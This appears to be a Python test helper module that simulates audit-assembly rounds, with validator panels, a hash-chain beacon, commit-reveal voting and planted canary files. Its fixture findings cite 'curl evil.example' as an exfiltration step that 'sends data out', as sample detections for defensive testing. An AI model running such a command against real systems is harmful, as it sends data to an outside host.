"""A small world: a policy, a population over four families, a beacon, and rounds held in it."""

from __future__ import annotations

import json
from collections.abc import Callable, Collection, Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from typing import Any

from sigma_core.assembly.beacon import BeaconValue, HashChainBeacon
from sigma_core.assembly.canaries import ANSWERED, CanaryRecord, PackageCanary, PlantedCanary, plant_for
from sigma_core.assembly.commit_reveal import (
    DeadlinePassed,
    PhaseClosed,
    Revealed,
    RevealsClosed,
    SeatStatus,
    derived_salt,
)
from sigma_core.assembly.consensus import Outcome
from sigma_core.assembly.independence import Calibration, FamilyKind
from sigma_core.assembly.population import embedded_population
from sigma_core.assembly.replay_document import replay_document
from sigma_core.assembly.round import PhaseRecord, Round, SealedSubmission, cast, conclude, open_phase, redraw_vacancies
from sigma_core.assembly.selection import Panel, Pool
from sigma_core.assembly.weights import WeightRow, WeightsSnapshot
from sigma_core.audit.canaries.bank import bank_sha256
from sigma_core.audit.model import AuditResult, Finding, Verdict
from sigma_core.policy import Policy, load_policy
from sigma_core.sandbox.facts import FactsDocument, Severity
from sigma_core.submissions.member_names import TakenNames

FAMILIES = ("capability_difference", "rules_taint", "signatures", "text_statistics")
RANGES = {family: {"threshold_ppm": (400_000, 700_000), "depth": (1, 3)} for family in FAMILIES}
TREE_HASH = "ab" * 32
BEACON = HashChainBeacon.create(b"a secret of this test, 32 bytes!", 1_000).reveal_to(7)
CALIBRATION = Calibration(
    kinds=dict.fromkeys(FAMILIES, FamilyKind.DETERMINISTIC),
    correlation_ppm={(f, g): 900_000 if f == g else 570_000 for f in FAMILIES for g in FAMILIES if f <= g},
)


def facts(*signals: Mapping[str, Any], complete: bool = True) -> FactsDocument:
    """A facts document with the parts that the assembly reads."""
    return FactsDocument(
        {
            "schema": "sigma-facts-v1",
            "package": {"treeHash": TREE_HASH},
            "facts": [],
            "coverage": {"complete": complete, "files": [], "incidents": []},
            "risk": {"blockingSignals": [dict(signal) for signal in signals]},
        }
    )


def verdict(verdict: Verdict, family: str = "rules_taint", note: str = "") -> AuditResult:
    finding = Finding(Severity.HIGH, "exfiltration", "SKILL.md", 3, 3, "curl evil.example", "sends data out", 900_000)
    return AuditResult(verdict, (finding,) if verdict is Verdict.UNSAFE else (), ("SKILL.md",), 10, family, "r1", note)


Says = Callable[[int, int], Verdict | None]
"""(phase, seat number) → what the seat says; None = it does not show up."""


Audit = Callable[[Panel, Collection[int]], Mapping[int, AuditResult]]
"""The engines of the seats with these numbers: results by seat number. A seat that is missing from them did not show
up."""


def hold_phase(held: Round, phase: int, earlier: Sequence[Panel], audit: Audit, salt_secret: bytes) -> PhaseRecord:
    """One phase whose engines all answer through ``audit``, which is called once for every wave of seats: the steps that
    `sigma_core.lifecycle.phases` keeps, without keeping them."""
    held_open = open_phase(held, phase, earlier)
    results: dict[int, AuditResult] = {}
    while True:
        answers = audit(held_open.panel, held_open.pending)
        results.update(answers)
        for number in held_open.pending:
            if number in answers:
                held_open = held_open.after(cast(held_open, number, answers[number], salt_secret))
        held_open = held_open.after(DeadlinePassed())
        redrawn = redraw_vacancies(held, held_open, earlier)
        if redrawn is held_open:
            break
        held_open = redrawn
    closed = held_open.after(PhaseClosed())
    for number, vote in closed.ballot.votes.items():
        if vote.status is SeatStatus.COMMITTED:
            salt = derived_salt(salt_secret, held.id, phase, number, vote.validator_id)
            closed = closed.after(Revealed(number, vote.validator_id, results[number].as_json(), salt))
    return PhaseRecord(closed.panel, closed.after(RevealsClosed()).ballot, closed.redraws)


@dataclass(frozen=True)
class HeldRound:
    round: Round
    phases: list[PhaseRecord]
    outcome: Outcome
    document: dict[str, Any]


def rows_of(policy: Policy) -> list[WeightRow]:
    """The embedded population with stake in USD as weight."""
    return [
        WeightRow(v.id, v.operator, v.family, v.stake_micro_usd // 1_000_000, 500_000 + len(v.id + v.family) * 1_000)
        for v in embedded_population(policy, RANGES)
    ]


def hold_round(
    says: Says,
    *,
    policy: Policy | None = None,
    third_panel: bool = False,
    facts_document: FactsDocument | None = None,
    cites: Callable[[int, int], bool] | None = None,
    package: PackageCanary | None = None,
    number: int = 1,
    never_reveals: tuple[int, int] | None = None,
) -> HeldRound:
    """A whole round among the embedded population; the seat (phase, number) ``never_reveals`` commits and is silent. Where ``cites`` is
    given, files are planted by the policy, and it says which seats cite theirs."""
    policy = policy or load_policy()
    rules = policy.assembly
    snapshot = WeightsSnapshot.of(3, policy.hash, rows_of(policy))
    value = BEACON.value(7)
    assert isinstance(value, BeaconValue)
    submission = SealedSubmission("sub_1", TREE_HASH, (snapshot.rows[0].operator,), BEACON.chain_id, 7)
    held = Round.opened(
        f"rnd_1_r{number}", submission, rules, snapshot=snapshot, pool=Pool.of(snapshot, rules), beacon=value
    )

    def audit(panel: Panel, numbers: Collection[int]) -> dict[int, AuditResult]:
        said = {n: says(panel.phase, n) for n in numbers}
        return {n: verdict(v, panel.seats[n - 1].family, f"seat {n}") for n, v in said.items() if v is not None}

    phases: list[PhaseRecord] = []
    for phase in (1, 2, 3) if third_panel else (1, 2):
        record = hold_phase(held, phase, [record.panel for record in phases], audit, b"salts of this test")
        if never_reveals is not None and never_reveals[0] == phase:
            record = silenced(record, never_reveals[1])
        phases.append(record)
    document = facts_document or facts()
    canary = CanaryRecord(bank_sha256(), package, tuple(planted_in(held, phases, policy, cites)) if cites else ())
    outcome = conclude(rules, phases, document, canary.state(phases))
    public = replay_document(
        held,
        phases,
        policy=policy.model_dump(mode="json"),
        chain=BEACON.chain,
        facts=document,
        canary=canary,
        outcome=outcome,
        calibration=CALIBRATION,
    )
    return HeldRound(held, phases, outcome, public)


def planted_in(
    held: Round, phases: list[PhaseRecord], policy: Policy, cites: Callable[[int, int], bool]
) -> Iterator[PlantedCanary]:
    """What was planted for every seat that answered, with the answers that ``cites`` calls for."""
    for record in phases:
        for seat in record.panel.seats:
            plant = plant_for(held.seed, bank_sha256(), seat, policy.canaries)
            if plant is not None and record.ballot.votes[seat.number].status in ANSWERED:
                file = plant.file(TakenNames([]))
                assert file is not None
                finding = Finding(Severity.HIGH, "exfiltration", file.path, 3, 3, "curl", "sends data out", 900_000)
                cited = cites(record.panel.phase, seat.number)
                said = replace(verdict(Verdict.UNSAFE if cited else Verdict.SAFE), findings=(finding,) if cited else ())
                yield PlantedCanary(record.panel.phase, seat.number, plant.item, file.path, file.sha256, said.as_json())


def silenced(record: PhaseRecord, number: int) -> PhaseRecord:
    """The phase as it is when the seat does not open its commitment in time."""
    silent = replace(record.ballot.votes[number], status=SeatStatus.NO_SHOW, salt=None, verdict=None)
    return replace(record, ballot=replace(record.ballot, votes={**record.ballot.votes, number: silent}))


def with_rules(**changes: Any) -> Policy:
    """The default policy with other assembly rules."""
    document = load_policy().model_dump(mode="json")
    return Policy.model_validate_json(json.dumps({**document, "assembly": {**document["assembly"], **changes}}))


def with_files_planted(rate_ppm: int, **population: Any) -> Policy:
    """The default policy with another rate of planted files, and with changes to its population."""
    document = load_policy().model_dump(mode="json")
    document["canaries"]["file_rate_ppm"] = rate_ppm
    document["population"] |= population
    return Policy.model_validate_json(json.dumps(document))
